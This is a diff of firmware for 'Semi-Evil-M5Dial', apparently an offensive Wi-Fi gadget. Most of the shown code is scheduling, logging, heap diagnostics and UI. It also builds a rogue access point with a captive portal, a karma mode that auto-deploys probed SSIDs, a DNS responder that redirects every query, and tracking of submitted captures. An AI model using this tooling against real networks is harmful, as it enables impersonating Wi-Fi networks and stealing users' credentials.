+            if (station->ip != 0 && stationByHost[station->ip >> 24] == station - stations) {
+                stationByHost[station->ip >> 24] = -1;
+            }
+            memset(station, 0, sizeof(Station));
+            station->inUse = true;
+            station->connected = true;
+            memcpy(station->mac, event.mac, 6);
+            station->associatedAt = event.time;
+            station->lastActivity = event.time;
+            if (netStatus.apUp || netStatus.portalRunning) {
+                SSIDStats* stats = findSSIDStats(netStatus.currentSSID);
+                if (stats) stats->associations++;
+            }
+        } else if (station) {
+            station->connected = false;
+            station->lastActivity = event.time;
+        }
+        changed = true;
+    }
+
+    if (!changed) return false;
+
+    int connected = 0;
+    for (int i = 0; i < maxStations; i++) {
+        if (stations[i].inUse && stations[i].connected) connected++;
+    }
+    netStatus.clientCount = connected;
+    netStatus.stationsVersion++;
+    publishNetStatus();
+    return true;
+}
+
+bool runStorageService(uint32_t deadlineUs) {
+    bool didWork = false;
+    if (settingsPending && millis() - settingsChangedAt >= settingsCommitDelay) {
+        commitSettings();
+        didWork = true;
+    }
+    if (ssidListDirty) {
+        writeSSIDList();
+        didWork = true;
+    }
+    if (writeScopeLog()) didWork = true;
+    return didWork;
+}
+
+void sampleHeap() {
+    multi_heap_info_t info;
+    heap_caps_get_info(&info, MALLOC_CAP_8BIT);
+
+    HeapSample& sample = heapHistory[heapSampleCount % heapHistorySize];
+    sample.freeHeap = ESP.getFreeHeap();
+    sample.largestBlock = info.largest_free_block;
+    sample.allocatedBlocks = info.allocated_blocks;
+    sample.freePsram = ESP.getFreePsram();
+    heapSampleCount++;
+    if (sample.largestBlock < heapMinLargestBlock) heapMinLargestBlock = sample.largestBlock;
+
+    bool freeLow = sample.freeHeap < heapFreeWatermark;
+    bool blockLow = sample.largestBlock < heapBlockWatermark;
+    if ((freeLow && !heapFreeAlarm) || (blockLow && !heapBlockAlarm)) {
+        heapAlarmCount++;
+        LOG_W("Heap alarm: free %u bytes, largest block %u bytes",
+              (unsigned)sample.freeHeap, (unsigned)sample.largestBlock);
+    }
+    if (freeLow) heapFreeAlarm = true;
+    else if (sample.freeHeap > heapFreeWatermark * 3 / 2) heapFreeAlarm = false;
+    if (blockLow) heapBlockAlarm = true;
+    else if (sample.largestBlock > heapBlockWatermark * 3 / 2) heapBlockAlarm = false;
+}
+
+// Log sink
+void logWrite(uint8_t level, const char* format, ...) {
+    va_list args;
+    va_start(args, format);
+    bool queued = logRing.write(level, millis(), format, args);
+    va_end(args);
+    if (!queued) logDroppedMetric.inc();
+}
+
+// Any core. A dump already pending is written once.
+void requestSerialDump(uint32_t dump) {
+    serialDumpRequests.fetch_or(dump, std::memory_order_release);
+}
+
+// UI core: queues a file to be copied to Serial, unless one already is
+void requestFileDump(const char* path) {
+    if (serialDumpRequests.load(std::memory_order_acquire) & SERIAL_DUMP_FILE) return;
+    snprintf(serialDumpPath, sizeof(serialDumpPath), "%s", path);
+    requestSerialDump(SERIAL_DUMP_FILE);
+}
+
+// Writes out every completed slot; returns false when the ring was empty
+bool logDrain() {
+    static const char levelTags[] = "-EWID";
+    bool wrote = false;
+    File file;
+    while (const auto* slot = logRing.peek()) {
+        char line[logLineSize + 24];
+        int length = snprintf(line, sizeof(line), "%lu.%03lu %c %.*s\n",
+                              (unsigned long)(slot->timeMs / 1000), (unsigned long)(slot->timeMs % 1000),
+                              levelTags[min<int>(slot->level, LOG_LEVEL_DEBUG)], (int)slot->length, slot->text);
+        logRing.release();
+
+        length = min(length, (int)sizeof(line) - 1);
+        Serial.write((const uint8_t*)line, length);
+        if (logToFile && !file) file = SPIFFS.open(logFilePath, FILE_APPEND);
+        if (file) file.write((const uint8_t*)line, length);
+        logBytesMetric.inc(length);
+        wrote = true;
+    }
+
+    if (file) {
+        bool full = file.size() >= logFileLimit;
+        file.close();
+        if (full) {
+            SPIFFS.remove(logPreviousFilePath);
+            SPIFFS.rename(logFilePath, logPreviousFilePath);
+        }
+    }
+    return wrote;
+}
+
+bool runHeapService(uint32_t deadlineUs) {
+    sampleHeap();
+    return false;
+}
+
+bool runUIService(uint32_t deadlineUs) {
+    ScopedTimer tickTimer(uiTickMetric);
+    M5Dial.update();
+    long newPosition = M5Dial.Encoder.read();
+
+    handleNetEvents();
+    {
+        TRACE_SCOPE(screens[currentScreen].name, TRACE_SCREEN);
+        screens[currentScreen].tick(newPosition);
+    }
+
+    if (screenNeedsRender) {
+        screenNeedsRender = false;
+        if (screens[currentScreen].render) {
+            TRACE_SCOPE(screens[currentScreen].name, TRACE_RENDER);
+            screens[currentScreen].render();
+        }
+
+        static bool firstFrameMarked = false;
+        if (!firstFrameMarked) {
+            firstFrameMarked = true;
+            bootMark("first_frame");
+        }
+    }
+    frameArena.reset();
+    return false;
+}
+
+// Core 1: Arduino loop task
+Service services[] = {
+    // name       period  budget  enabled                run
+    { "storage",  1000,   30000,  nullptr,               runStorageService },
+    { "ui",       10,     15000,  nullptr,               runUIService },
+    { "hid",      5,      1000,   hidServiceEnabled,     runKeystrokes },
+    { "pcap",     pcapDrainInterval, 30000, pcapServiceEnabled, runPcapService },
+    { "heap",     heapSampleInterval, 2000, nullptr,         runHeapService },
+    { "boot",     0,      50000,  bootServiceEnabled,    runBootService },
+};
+const int serviceCount = sizeof(services) / sizeof(services[0]);
+
+// Core 0: networking task
+Service netServices[] = {
+    // name       period  budget  enabled                run
+    { "dns",      2,      2000,   portalServicesEnabled, runDNSService },
+    { "http",     2,      20000,  portalServicesEnabled, runHTTPService },
+    { "radio",    10,     1000,   radioServiceEnabled,   runRadioService },
+    { "hop",      10,     500,    hopServiceEnabled,     runHopService },
+    { "replay",   2,      3000,   replayServiceEnabled,  runReplayService },
+    { "stations", 10,     1000,   nullptr,               runStationService },
+    { "status",   netStatusInterval, 1000, nullptr,      runNetStatusService },
+};
+const int netServiceCount = sizeof(netServices) / sizeof(netServices[0]);
+
+// heapDrop is global free heap before the run minus after. It includes
+// whatever the other core allocated or freed meanwhile, so single runs are
+// noise; only a service that keeps showing drops over time is worth a look.
+void recordServiceHeap(Service& service, int32_t heapDrop) {
+    service.globalHeapDelta += heapDrop;
+    if (heapDrop > 0) service.globalHeapDrops++;
+}
+
+void recordServiceTick(Service& service, uint32_t elapsedUs) {
+    service.runs++;
+    if (elapsedUs > service.budgetUs) service.overruns++;
+    if (elapsedUs > service.maxUs) service.maxUs = elapsedUs;
+
+    // Buckets grow by 4x starting at 64us
+    int bucket = 0;
+    uint32_t scaled = elapsedUs / 64;
+    while (scaled > 0 && bucket < serviceHistogramBuckets - 1) {
+        bucket++;
+        scaled /= 4;
+    }
+    service.histogram[bucket]++;
+}
+
+// Runs every due service once and returns how long the caller may sleep
+uint32_t runServices(Service* list, int count) {
+    unsigned long now = millis();
+    uint32_t sleepMs = maxIdleSleepMs;
+    bool busy = false;
+
+    for (int i = 0; i < count; i++) {
+        Service& service = list[i];
+        if (service.enabled && !service.enabled()) continue;
+
+        if ((long)(now - service.nextRunMs) >= 0) {
+            TRACE_SCOPE(service.name, TRACE_SERVICE);
+            // Reading free heap takes the heap lock, so only when asked for
+            bool sampleHeap = debugMode && verboseDebug;
+            uint32_t heapBefore = sampleHeap ? ESP.getFreeHeap() : 0;
+            uint32_t start = micros();
+            busy |= service.run(start + service.budgetUs);
+            recordServiceTick(service, micros() - start);
+            if (sampleHeap) recordServiceHeap(service, (int32_t)(heapBefore - ESP.getFreeHeap()));
+            now = millis();
+            service.nextRunMs = now + service.periodMs;
+        }
+
+        long untilDue = (long)(service.nextRunMs - now);
+        if (untilDue < (long)sleepMs) sleepMs = untilDue > 0 ? untilDue : 0;
+    }
+    return busy ? 0 : sleepMs;
+}
+
+// Runs on the log task; counters from the other core may be mid-update
+void printServiceReport(const Service* list, int count) {
+    Serial.printf("%-8s %8s %6s %8s %8s", "service", "runs", "over", "max_us", "gheap");
+    for (int b = 0; b < serviceHistogramBuckets; b++) {
+        Serial.printf(" %7s", serviceHistogramLabels[b]);
+    }
+    Serial.println();
+    for (int i = 0; i < count; i++) {
+        const Service& service = list[i];
+        Serial.printf("%-8s %8u %6u %8u %8d", service.name, (unsigned)service.runs,
+                      (unsigned)service.overruns, (unsigned)service.maxUs, (int)service.globalHeapDelta);
+        for (int b = 0; b < serviceHistogramBuckets; b++) {
+            Serial.printf(" %7u", (unsigned)service.histogram[b]);
+        }
+        Serial.println();
+    }
+}
+
+// Serial and flash writes may block here without holding up the UI or the
+// net task.
+void logTask(void* parameter) {
+    for (;;) {
+        logDrain();
+        // The file bit stays set, holding serialDumpPath, until the copy is done
+        uint32_t dumps = serialDumpRequests.fetch_and(SERIAL_DUMP_FILE, std::memory_order_acquire);
+        if (dumps & SERIAL_DUMP_BOOT_TIMELINE) printBootTimeline();
+        if (dumps & SERIAL_DUMP_SERVICE_REPORT) {
+            printServiceReport(services, serviceCount);
+            printServiceReport(netServices, netServiceCount);
+        }
+        if (dumps & SERIAL_DUMP_TRACE) writeTraceToSerial();
+        if (dumps & SERIAL_DUMP_FILE) {
+            writeFileToSerial(serialDumpPath);
+            serialDumpRequests.fetch_and(~(uint32_t)SERIAL_DUMP_FILE, std::memory_order_release);
+        }
+        vTaskDelay(pdMS_TO_TICKS(logFlushInterval));
+    }
+}
+
+void startLogTask() {
+    if (logTaskHandle) return;
+    xTaskCreatePinnedToCore(logTask, "log", logTaskStackSize, nullptr, logTaskPriority, &logTaskHandle, logTaskCore);
+}
+
+void loop() {
+    uint32_t sleepMs;
+    {
+        TRACE_SCOPE("loop", TRACE_LOOP);
+        sleepMs = runServices(services, serviceCount);
+
+        if (debugMode && verboseDebug && millis() - lastServiceReport > serviceReportInterval) {
+            lastServiceReport = millis();
+            requestSerialDump(SERIAL_DUMP_SERVICE_REPORT);
+        }
+    }
+
+    if (sleepMs > 0) {
+        delay(sleepMs);
+    } else {
+        yield();
+    }
+}
+
+// Networking task
+void netTask(void* param) {
+    for (;;) {
+        NetMessage msg;
+        while (netCommandQueue.pop(msg)) {
+            switch (msg.type) {
+                case NET_CMD_START_PORTAL: netStartCaptivePortal(); break;
+                case NET_CMD_STOP_PORTAL:  netStopCaptivePortal(); break;
+                case NET_CMD_START_KARMA:  netStartKarma(); break;
+                case NET_CMD_STOP_KARMA:   netStopKarma(); break;
+                case NET_CMD_DEPLOY_AP:    netDeployAP(msg.ssid); break;
+                case NET_CMD_STOP_AP:      netStopAP(); break;
+                default: break;
+            }
+        }
+
+        uint32_t sleepMs = runServices(netServices, netServiceCount);
+        // Always block for at least one tick so the core 0 idle task can run;
+        // commands and probes wake the task early through its notification.
+        ulTaskNotifyTake(pdTRUE, max(pdMS_TO_TICKS(sleepMs), (TickType_t)1));
+    }
+}
+
+void startNetTask() {
+    if (netTaskHandle) return;
+    WiFi.onEvent(onStationEvent, ARDUINO_EVENT_WIFI_AP_STACONNECTED);
+    WiFi.onEvent(onStationEvent, ARDUINO_EVENT_WIFI_AP_STADISCONNECTED);
+    WiFi.onEvent(onStationEvent, ARDUINO_EVENT_WIFI_AP_STAIPASSIGNED);
+    xTaskCreatePinnedToCore(netTask, "net", netTaskStackSize, nullptr, netTaskPriority, &netTaskHandle, netTaskCore);
+}
+
+// Runs on the Arduino event task; just queue the event for the net task
+void onStationEvent(arduino_event_id_t event, arduino_event_info_t info) {
+    StationEvent stationEvent = {};
+    stationEvent.time = millis();
+    switch (event) {
+        case ARDUINO_EVENT_WIFI_AP_STACONNECTED:
+            stationEvent.type = STATION_CONNECTED;
+            memcpy(stationEvent.mac, info.wifi_ap_staconnected.mac, 6);
+            break;
+        case ARDUINO_EVENT_WIFI_AP_STADISCONNECTED:
+            stationEvent.type = STATION_DISCONNECTED;
+            memcpy(stationEvent.mac, info.wifi_ap_stadisconnected.mac, 6);
+            break;
+        case ARDUINO_EVENT_WIFI_AP_STAIPASSIGNED:
+            stationEvent.type = STATION_IP_ASSIGNED;
+            break;
+        default:
+            return;
+    }
+    stationEventQueue.push(stationEvent);
+    if (netTaskHandle) xTaskNotifyGive(netTaskHandle);
+}
+
+void resetStations() {
+    memset(stations, 0, sizeof(stations));
+    memset(stationByHost, -1, sizeof(stationByHost));
+    netStatus.clientCount = 0;
+    netStatus.stationsVersion++;
+}
+
+Station* findStationByIP(uint32_t ip) {
+    for (int pass = 0; pass < 2; pass++) {
+        int slot = stationByHost[ip >> 24];
+        if (slot >= 0 && stations[slot].inUse && stations[slot].ip == ip) return &stations[slot];
+        // The IP event may still be queued; look the lease up directly once
+        if (pass == 0) refreshStationIPs();
+    }
+    return nullptr;
+}
+
+// Returns the stats entry for an SSID, recycling the stalest one if needed
+SSIDStats* findSSIDStats(const char* ssid) {
+    if (ssid == nullptr || ssid[0] == '\0') return nullptr;
+    SSIDStats* oldest = &ssidStats[0];
+    for (int i = 0; i < maxSSIDStats; i++) {
+        SSIDStats& stats = ssidStats[i];
+        if (strncmp(stats.ssid, ssid, sizeof(stats.ssid)) == 0) {
+            stats.lastSeen = millis();
+            return &stats;
+        }
+        if (stats.lastSeen < oldest->lastSeen) oldest = &stats;
+    }
+    memset(oldest, 0, sizeof(SSIDStats));
+    strncpy(oldest->ssid, ssid, sizeof(oldest->ssid) - 1);
+    oldest->lastSeen = millis();
+    return oldest;
+}
+
+// Called from HTTP handlers (net task) after a response went out
+void noteStationActivity(size_t bytesServed, bool captureSubmitted) {
+    Station* station = findStationByIP((uint32_t)server.client().remoteIP());
+    if (!station) return;
+    station->lastActivity = millis();
+    station->bytesServed += bytesServed;
+    if (captureSubmitted) station->captureSubmitted = true;
+}
+
+// Remembers the portal template a station is on, and records
+// association-to-portal time the first time it gets a page
+void notePortalPageServed(const char* page) {
+    Station* station = findStationByIP((uint32_t)server.client().remoteIP());
+    if (!station) return;
+    strncpy(station->portalPage, page, sizeof(station->portalPage) - 1);
+    if (station->firstPageAt != 0) return;
+    station->firstPageAt = millis();
+    LOG_D("Client %02x:%02x:%02x:%02x:%02x:%02x reached the portal in %lu ms",
+               station->mac[0], station->mac[1], station->mac[2],
+               station->mac[3], station->mac[4], station->mac[5],
+               station->firstPageAt - station->associatedAt);
+}
+
+void handleCaptiveProbe(CaptiveProbe& probe) {
+    probe.hits++;
+    server.sendHeader("Location", portalLocation);
+    server.send_P(302, "text/html", captiveProbeBody, sizeof(captiveProbeBody) - 1);
+    noteStationActivity(sizeof(captiveProbeBody) - 1);
+}
+
+void postNetCommand(NetMessageType type, const char* ssid) {
+    NetMessage msg = {};
+    msg.type = type;
+    if (ssid) strncpy(msg.ssid, ssid, sizeof(msg.ssid) - 1);
+    if (!netCommandQueue.push(msg)) LOG_D("Network command queue full, command dropped");
+    if (netTaskHandle) xTaskNotifyGive(netTaskHandle);
+}
+
+void postNetEvent(NetMessageType type, const char* ssid) {
+    NetMessage msg = {};
+    msg.type = type;
+    if (ssid) strncpy(msg.ssid, ssid, sizeof(msg.ssid) - 1);
+    netEventQueue.push(msg);
+}
+
+// Runs on the UI core; applies everything the networking task reported
+void handleNetEvents() {
+    NetMessage msg;
+    while (netEventQueue.pop(msg)) {
+        switch (msg.type) {
+            case NET_EVENT_PORTAL_STARTED:
+                switchScreen(PORTAL_SCREEN);
+                break;
+            case NET_EVENT_PORTAL_FAILED:
+                requestRender();
+                break;
+            case NET_EVENT_KARMA_FAILED:
+                if (currentScreen == KARMA_SCREEN) switchScreen(MENU_SCREEN);
+                break;
+            case NET_EVENT_AP_FAILED:
+                isAPDeploying = false;
+                requestRender();
+                break;
+            case NET_EVENT_PROBE:
+                saveSSID(msg.ssid);
+                if (isAutoKarmaActive && !isAPDeploying && strcmp(msg.ssid, lastDeployedSSID) != 0 &&
+                    (!karmaProbePending || msg.devices > pendingKarmaDevices)) {
+                    strncpy(pendingKarmaSSID, msg.ssid, sizeof(pendingKarmaSSID) - 1);
+                    pendingKarmaDevices = msg.devices;
+                    if (!karmaProbePending) karmaPendingSince = millis();
+                    karmaProbePending = true;
+                }
+                break;
+            default:
+                break;
+        }
+    }
+}
+
+void publishNetStatus() {
+    uint32_t seq = netStatusSeq.load(std::memory_order_relaxed);
+    netStatusSeq.store(seq + 1, std::memory_order_relaxed);
+    std::atomic_thread_fence(std::memory_order_release);
+    memcpy(&netStatusShared, &netStatus, sizeof(netStatus));
+    std::atomic_thread_fence(std::memory_order_release);
+    netStatusSeq.store(seq + 2, std::memory_order_release);
+    lastNetStatusPublish = millis();
+}
+
+NetStatus readNetStatus() {
+    NetStatus copy;
+    uint32_t before, after;
+    do {
+        before = netStatusSeq.load(std::memory_order_acquire);
+        memcpy(&copy, &netStatusShared, sizeof(copy));
+        std::atomic_thread_fence(std::memory_order_acquire);
+        after = netStatusSeq.load(std::memory_order_relaxed);
+    } while ((before & 1) || before != after);
+    return copy;
+}
+
+// Drawing Menus
+void drawMenu(int index) {
+    if (index < 0 || index >= menuItemsCount) {
+        index = 0;
+    }
+    drawListMenu(menuItems, menuItemsCount, index, YELLOW, WHITE, YELLOW);
+}
+
+void drawListMenu(const char* items[], int itemCount, int index, uint16_t highlightColor, uint16_t textColor, uint16_t ringColor) {
+    M5Dial.Display.fillScreen(BLACK);
+    drawRing(ringColor);
+
+    const int itemHeight = 25;
+    const int numVisibleItems = 4; // show more items for clarity
+
+    for (int i = 0; i < numVisibleItems; i++) {
+        int itemIndex = (index + i - 1 + itemCount) % itemCount;
+        int yPos = (M5Dial.Display.height() / 2) + ((i - 1) * itemHeight);
+
+        if (i == 1) {
+            M5Dial.Display.setTextColor(highlightColor);
+        } else {
+            M5Dial.Display.setTextColor(textColor);
+        }
+
+        const char* displayText = items[itemIndex];
+        if (M5Dial.Display.textWidth(displayText) > M5Dial.Display.width() - 20) {
+            int keep = (M5Dial.Display.width() - 20) / M5Dial.Display.fontHeight();
+            const char* truncated = frameArena.printf("%.*s...", keep, displayText);
+            if (truncated) displayText = truncated;
+        }
+
+        M5Dial.Display.setTextSize(defaultTextSize);
+        M5Dial.Display.drawString(displayText, M5Dial.Display.width() / 2, yPos);
+    }
+}
+
+void drawRing(uint16_t color) {
+    int16_t centerX = M5Dial.Display.width() / 2;
+    int16_t centerY = M5Dial.Display.height() / 2;
+    int16_t radius = min(M5Dial.Display.width(), M5Dial.Display.height()) / 2;
+
+    for (int16_t r = radius; r > radius - 10; r--) {
+        M5Dial.Display.drawCircle(centerX, centerY, r, color);
+    }
+}
+
+// Utility function to center text on the display with a vertical offset
+void centerText(const String &text, int16_t yOffset) {
+    int16_t textWidth = M5Dial.Display.textWidth(text);
+    int16_t x = (M5Dial.Display.width() - textWidth) / 2;
+    int16_t y = (M5Dial.Display.height() / 2) + yOffset;
+    M5Dial.Display.setCursor(x, y);
+    M5Dial.Display.println(text);
+}
+
+// About Screen
+void displayAboutScreen() {
+    M5Dial.Display.clear();
+    drawRing(TFT_ORANGE);
+
+    M5Dial.Display.setTextSize(defaultTextSize);
+    M5Dial.Display.setTextColor(TFT_WHITE);
+
+    int16_t yPos = 40;
+    int16_t textWidth = M5Dial.Display.textWidth("Semi-Evil-M5Dial");
+    int16_t xPos = (M5Dial.Display.width() - textWidth) / 2;
+    M5Dial.Display.setCursor(xPos, yPos);
+    M5Dial.Display.println("Semi-Evil-M5Dial");
+
+    yPos += 30;
+    textWidth = M5Dial.Display.textWidth("Version: 1.3.0");
+    xPos = (M5Dial.Display.width() - textWidth) / 2;
+    M5Dial.Display.setCursor(xPos, yPos);
+    M5Dial.Display.println("Version: 1.3.0");
+
+    yPos += 30;
+    textWidth = M5Dial.Display.textWidth("By: 7h30th3r0n3");
+    xPos = (M5Dial.Display.width() - textWidth) / 2;
+    M5Dial.Display.setCursor(xPos, yPos);
+    M5Dial.Display.println("By: 7h30th3r0n3");
+
+    yPos += 30;
+    textWidth = M5Dial.Display.textWidth("& dagnazty");
+    xPos = (M5Dial.Display.width() - textWidth) / 2;
+    M5Dial.Display.setCursor(xPos, yPos);
+    M5Dial.Display.println("& dagnazty");
+
+    yPos = M5Dial.Display.height() - 60;
+    M5Dial.Display.setTextSize(0.4);
+    textWidth = M5Dial.Display.textWidth("Press to return to menu");
+    xPos = (M5Dial.Display.width() - textWidth) / 2;
+    M5Dial.Display.setCursor(xPos, yPos);
+    M5Dial.Display.println("Press to return to menu");
+}
+
+// Diagnostics (Settings, or hold the button on About). Page 0 shows heap
+// state and history, page 1 live activity from the metrics registry.
+void displayDiagnosticsScreen() {
+    if (diagnosticsPage == 1) {
+        displayActivityDiagnostics();
+        return;
+    }
+    diagnosticsShownSample = heapSampleCount;
+    M5Dial.Display.clear();
+    drawRing(heapFreeAlarm || heapBlockAlarm ? TFT_RED : TFT_DARKGREY);
+    M5Dial.Display.setTextSize(1);
+    M5Dial.Display.setTextColor(TFT_WHITE, BLACK);
+
+    if (heapSampleCount == 0) {
+        centerText("Sampling heap...");
+        return;
+    }
+
+    const HeapSample& latest = heapHistory[(heapSampleCount - 1) % heapHistorySize];
+    char line[40];
+    int16_t y = 40;
+    auto printLine = [&](const char* text) {
+        M5Dial.Display.setCursor((M5Dial.Display.width() - M5Dial.Display.textWidth(text)) / 2, y);
+        M5Dial.Display.print(text);
+        y += 14;
+    };
+    snprintf(line, sizeof(line), "Free: %u KB", (unsigned)(latest.freeHeap / 1024));
+    printLine(line);
+    snprintf(line, sizeof(line), "Min free: %u KB", (unsigned)(ESP.getMinFreeHeap() / 1024));
+    printLine(line);
+    snprintf(line, sizeof(line), "Largest: %u KB (min %u)",
+             (unsigned)(latest.largestBlock / 1024), (unsigned)(heapMinLargestBlock / 1024));
+    printLine(line);
+    snprintf(line, sizeof(line), "Blocks: %u", (unsigned)latest.allocatedBlocks);
+    printLine(line);
+    if (ESP.getPsramSize() > 0) {
+        snprintf(line, sizeof(line), "PSRAM: %u KB", (unsigned)(latest.freePsram / 1024));
+        printLine(line);
+    }
+    snprintf(line, sizeof(line), "Alarms: %u", (unsigned)heapAlarmCount);
+    printLine(line);
+
+    // Free heap history, oldest on the left, scaled to the total heap
+    const int16_t graphX = 60;
+    const int16_t graphBottom = 195;
+    const int16_t graphHeight = 50;
+    uint32_t heapSize = ESP.getHeapSize();
+    uint32_t samples = min(heapSampleCount, (uint32_t)heapHistorySize);
+    M5Dial.Display.drawFastHLine(graphX, graphBottom, heapHistorySize * 2, TFT_DARKGREY);
+    for (uint32_t i = 0; i < samples; i++) {
+        const HeapSample& sample = heapHistory[(heapSampleCount - samples + i) % heapHistorySize];
+        int16_t barHeight = heapSize ? (int16_t)((uint64_t)sample.freeHeap * graphHeight / heapSize) : 0;
+        uint16_t color = sample.freeHeap < heapFreeWatermark ? TFT_RED : TFT_GREEN;
+        M5Dial.Display.fillRect(graphX + i * 2, graphBottom - barHeight, 2, barHeight, color);
+    }
+}
+
+void displayActivityDiagnostics() {
+    M5Dial.Display.clear();
+    drawRing(TFT_DARKGREY);
+    M5Dial.Display.setTextSize(1);
+    M5Dial.Display.setTextColor(TFT_WHITE, BLACK);
+
+    NetStatus status = readNetStatus();
+    char line[40];
+    int16_t y = 40;
+    auto printLine = [&](const char* text) {
+        M5Dial.Display.setCursor((M5Dial.Display.width() - M5Dial.Display.textWidth(text)) / 2, y);
+        M5Dial.Display.print(text);
+        y += 14;
+    };
+    snprintf(line, sizeof(line), "Probes: %u/s", (unsigned)probesPerSecond);
+    printLine(line);
+    snprintf(line, sizeof(line), "Dropped: %u probe, %u pcap", (unsigned)status.probesDropped,
+             (unsigned)pcapBuffer.stats.dropped.load(std::memory_order_relaxed));
+    printLine(line);
+    snprintf(line, sizeof(line), "AP deploys: %u", (unsigned)apDeploysMetric.get());
+    printLine(line);
+    snprintf(line, sizeof(line), "Stations: %d", status.clientCount);
+    printLine(line);
+    snprintf(line, sizeof(line), "HTTP: %u/s, p90 %u us", (unsigned)httpPerSecond,
+             (unsigned)httpLatencyMetric.percentileUs(90));
+    printLine(line);
+    snprintf(line, sizeof(line), "Flash p90: %u us", (unsigned)flashWriteMetric.percentileUs(90));
+    printLine(line);
+    snprintf(line, sizeof(line), "UI tick p90: %u us", (unsigned)uiTickMetric.percentileUs(90));
+    printLine(line);
+    snprintf(line, sizeof(line), "Free heap: %u KB", (unsigned)(ESP.getFreeHeap() / 1024));
+    printLine(line);
+    snprintf(line, sizeof(line), "Log dropped: %u", (unsigned)logDroppedMetric.get());
+    printLine(line);
+}
+
+// SSID Handling
+void saveSSID(const String& newSSID) {
+    TRACE_SCOPE("saveSSID", TRACE_STORAGE);
+    ensureBootLoaded();
+    if (ssidList.contains(newSSID.c_str())) return;
+
+    if (ssidList.push(newSSID.c_str())) {
+        LOG_D("Removed oldest SSID to maintain the limit.");
+    }
+
+    ssidListDirty = true;
+}
+
+void writeSSIDList() {
+    TRACE_SCOPE("writeSSIDList", TRACE_STORAGE);
+    ScopedTimer flashTimer(flashWriteMetric);
+    ssidListDirty = false;
+    File file = SPIFFS.open("/SSID.json", "w");
+    if (!file) {
+        LOG_W("Failed to open SSID.json for writing");
+        return;
+    }
+
+    JsonDocument doc;
+    JsonArray array = doc["ssids"].to<JsonArray>();
+    for (int i = 0; i < ssidList.size(); i++) {
+        array.add(ssidList[i]);
+    }
+
+    if (serializeJson(doc, file) == 0) {
+        LOG_W("Failed to write to file");
+    }
+
+    file.close();
+    LOG_D("New SSID saved and list updated.");
+}
+
+void saveSelectedSSID(const String& selectedSSID) {
+    ScopedTimer flashTimer(flashWriteMetric);
+    File file = SPIFFS.open("/selectedSSID.json", "w");
+    if (!file) {
+        LOG_W("Failed to open selectedSSID.json for writing");
+        return;
+    }
+    JsonDocument doc;
+    doc["selectedSSID"] = selectedSSID;
+    if (serializeJson(doc, file) == 0) {
+        LOG_W("Failed to write selected SSID");
+    }
+    file.close();
+    LOG_D("Selected SSID saved: %s", selectedSSID.c_str());
+}
+
+String cleanSSID(String ssid) {
+    ssid.trim();
+    int rIndex = ssid.indexOf('\r');
+    if (rIndex != -1) ssid.remove(rIndex);
+    int nIndex = ssid.indexOf('\n');
+    if (nIndex != -1) ssid.remove(nIndex);
+    return ssid;
+}
+
+// DNS Responder
+void loadDnsOverrides() {
+    dnsResponder.clearOverrides();
+    File file = SPIFFS.open("/dns_overrides.txt", "r");
+    if (!file) return;
+
+    // One name per line, optionally followed by NXDOMAIN or REFUSED
+    while (file.available() && dnsResponder.overrideCount < dnsMaxOverrides) {
+        String line = file.readStringUntil('\n');
+        line.trim();
+        if (line.isEmpty() || line.startsWith("#")) continue;
+
+        uint8_t rcode = DNS_RCODE_NXDOMAIN;
+        int space = line.indexOf(' ');
+        if (space != -1) {
+            String action = line.substring(space + 1);
+            action.trim();
+            if (action.equalsIgnoreCase("REFUSED")) rcode = DNS_RCODE_REFUSED;
+            line = line.substring(0, space);
+        }
+        line.toLowerCase();
+        dnsResponder.addOverride(line.c_str(), rcode);
+    }
+    file.close();
+
+    LOG_D("Loaded %d DNS overrides", dnsResponder.overrideCount);
+}
+
+bool dnsStart(const IPAddress& ip) {
+    dnsStop();
+
+    dnsSocket = socket(AF_INET, SOCK_DGRAM, IPPROTO_UDP);
+    if (dnsSocket < 0) return false;
+
+    struct sockaddr_in addr = {};
+    addr.sin_family = AF_INET;
+    addr.sin_port = htons(DNS_PORT);
+    addr.sin_addr.s_addr = htonl(INADDR_ANY);
+    if (bind(dnsSocket, (struct sockaddr*)&addr, sizeof(addr)) < 0) {
+        close(dnsSocket);
+        dnsSocket = -1;
+        return false;
+    }
+
+    const uint8_t address[4] = { ip[0], ip[1], ip[2], ip[3] };
+    dnsResponder.setAddress(address);
+
+    loadDnsOverrides();
+    return true;
+}
+
+void dnsStop() {
+    if (dnsSocket >= 0) {
+        close(dnsSocket);
+        dnsSocket = -1;
+    }
+}
+
+// Answers every query waiting on the socket, stopping early at the deadline
+int dnsProcessPending(uint32_t deadlineUs) {
+    if (dnsSocket < 0) return 0;
+
+    int handled = 0;
+    while ((int32_t)(micros() - deadlineUs) < 0) {
+        struct sockaddr_in from;
+        socklen_t fromLength = sizeof(from);
+        int length = recvfrom(dnsSocket, dnsBuffer, sizeof(dnsBuffer), MSG_DONTWAIT,
+                              (struct sockaddr*)&from, &fromLength);
+        if (length <= 0) break;
+
+        TRACE_SCOPE("dns_query", TRACE_NET);
+        handled++;
+        int responseLength = dnsResponder.buildResponse(dnsBuffer, length);
+        if (responseLength == 0) continue;
+        sendto(dnsSocket, dnsBuffer, responseLength, 0, (struct sockaddr*)&from, fromLength);
+    }
+    return handled;
+}
+
+// Captive Portal
+void startCaptivePortal() {
+    ensureBootLoaded();
+    postNetCommand(NET_CMD_START_PORTAL);
+}
+
+// Exit hook of PORTAL_SCREEN
+void stopCaptivePortal() {
+    postNetCommand(NET_CMD_STOP_PORTAL);
+}
+
+void netStartCaptivePortal() {
+    if (isPortalRunning) return;
+    LOG_D("Starting Captive Portal...");
+
+    // Configure WiFi channel and SSID
+    WiFi.mode(WIFI_AP_STA);
+    WiFi.setSleep(false); // Disable sleep for better reliability
+    WiFi.setTxPower(WIFI_POWER_19_5dBm); // Max power
+    
+    // Clean SSID to ASCII only
+    String cleanSSID = ssid;
+    cleanSSID.replace(" ", "_");
+    cleanSSID.replace("\"", "");
+    cleanSSID.replace("'", "");
+    cleanSSID.replace("\\", "");
+    cleanSSID.replace("/", "");
+    
+    // Start AP on channel 6 (commonly supported)
+    if (!WiFi.softAP(cleanSSID.c_str(), password, 6, 0, 4)) {
+        LOG_W("Failed to start AP, retrying...");
+        delay(500);
+        WiFi.mode(WIFI_STA);
+        delay(500);
+        WiFi.mode(WIFI_AP_STA);
+        if (!WiFi.softAP(cleanSSID.c_str(), password, 6, 0, 4)) {
+            LOG_E("Failed to start AP after retry. Check config.");
+            postNetEvent(NET_EVENT_PORTAL_FAILED);
+            return;
+        }
+    }
+    
+    LOG_D("AP started with SSID: %s (WiFi channel 6, max connections 4)", cleanSSID.c_str());
+
